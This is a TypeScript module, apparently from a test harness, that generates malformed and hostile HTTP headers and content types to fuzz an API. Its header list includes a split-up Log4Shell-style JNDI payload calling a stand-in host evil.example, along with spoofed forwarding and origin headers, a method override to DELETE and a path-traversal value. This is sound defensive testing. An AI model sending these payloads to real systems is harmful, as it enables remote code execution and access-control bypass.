import type { Random } from '../../world/random.ts';
import type { Headers } from '../world/credentials.ts';

/** Content types that no route with a body accepts. */
// biome-ignore format: a list to be read at a glance
export const HOSTILE_TYPES = [
  'text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x',
  'application/json-patch+json', 'application/jsonp', 'text/plain, application/json', '*/*', '/', ';', 'json', 'a',
  'application/json; charset="', `application/json; x=${'y'.repeat(8000)}`, '\u00fcnicode/js\u00f6n',
];
// biome-ignore format: a list to be read at a glance
const TYPES = [
  ...HOSTILE_TYPES, 'application/json; charset=utf-16', 'application/json;charset=utf-8', 'APPLICATION/JSON',
  'application/json, text/plain', 'application/problem+json', 'application/json;', ' ', '',
];

// biome-ignore format: a list to be read at a glance
const ODD: Headers = [
  ['Content-Encoding', 'gzip'], ['Content-Encoding', 'br'], ['Content-Encoding', 'identity'], ['Accept', 'text/xml'],
  ['Accept', '*/*;q=0'], ['Accept', 'application/json;q=abc'], ['Accept-Encoding', 'gzip, deflate, br'],
  ['Accept-Encoding', '*;q=0'], ['If-None-Match', '*'], ['If-None-Match', '"x", W/"y"'], ['If-None-Match', '"'],
  ['If-Modified-Since', 'yesterday'], ['Range', 'bytes=0-0'], ['Range', 'bytes=9999999999-'],
  ['X-Forwarded-For', '127.0.0.1'], ['X-Forwarded-Host', 'evil.example'], ['X-Forwarded-Proto', 'https'],
  ['X-HTTP-Method-Override', 'DELETE'], ['X-Original-URL', '/api/admin/people'], ['Forwarded', 'for=127.0.0.1'],
  ['Origin', 'https://evil.example'], ['Origin', 'null'], ['Sec-Fetch-Site', 'cross-site'],
  ['Cookie', 'a=b; tillseal-session='], ['Cookie', ';;;;'], ['X-Request-Id', '../../x'], ['Referer', 'javascript:1'],
  ['User-Agent', ''], ['User-Agent', '$'.concat('{jndi:ldap://evil.example/a}')], ['Accept-Language', '*'],
  ['Last-Event-ID', '-1'], ['Prefer', 'wait=99999'], ['Idempotency-Key', "'"], ['Via', '1.1 x'],
  ['Max-Forwards', '0'], ['DNT', '1'], ['X-Tillseal-Console', ''], ['Date', 'x'],
];

export function hostileHeaders(headers: Headers, hasBody: boolean, random: Random): Headers {
  let changed = [...headers];
  if (hasBody && random.chance(0.5)) {
    changed = changed.filter(([name]) => name !== 'Content-Type');
    if (random.chance(0.9)) changed.push(['Content-Type', random.pick(TYPES)]);
  }
  for (let turn = 0; turn <= random.below(3); turn += 1) changed.push(oddHeader(random));
  return changed;
}

function oddHeader(random: Random): readonly [string, string] {
  switch (random.below(8)) {
    case 0:
      return [`X-${'n'.repeat(random.pick([1, 100, 5000]))}`, 'v'];
    case 1:
      return ['X-Long', 'v'.repeat(random.pick([100, 5000, 15_000, 17_000]))];
    case 2:
      return ['X-Bytes', Array.from({ length: 20 }, () => String.fromCharCode(0x80 + random.below(0x7f))).join('')];
    case 3:
      return [
        'Authorization',
        random.pick([
          '',
          'Bearer',
          'Basic !!!!',
          'Basic Og==',
          `Bearer ${'x'.repeat(600)}`,
          'bearer tsk_',
          'Negotiate x',
        ]),
      ];
    default:
      return random.pick(ODD);
  }
}
